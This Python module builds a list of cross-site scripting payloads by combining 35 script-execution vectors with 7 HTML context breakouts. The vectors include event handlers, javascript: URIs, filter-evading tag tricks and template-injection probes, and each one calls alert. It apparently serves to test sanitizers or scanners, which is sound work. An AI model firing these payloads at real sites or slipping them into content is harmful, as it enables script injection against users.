"""Attempts to run a script: what to run, by ways to reach it. Each calls ``alert``."""

from itertools import product
from typing import Final

_RUNS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=data:text/javascript,alert(1)></sCrIpT>",
    "<script/x>alert`1`</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x\nonerror\n=\nalert(1)//",
    "<IMG SRC=\"javascript:alert(1);\" ONERROR='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<base href=javascript:/x/><a href=alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=data:text/css,*{background:red}>",
    "<style>@import'javascript:alert(1)';*{animation:x}</style>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<xss style=animation-name:x onanimationstart=alert(1) tabindex=1 id=x>",
    "javascript:alert(1)//",
    "\x01java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{ config }}{% endraw %}",
)
_REACHED: Final = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></script></style></mark>{}",
    "--><!--{}-->",
    "]]>{}",
    "\"'` onfocus=alert(1) autofocus x={}",
)
PAYLOADS: Final = [way.replace("{}", run) for way, run in product(_REACHED, _RUNS)]
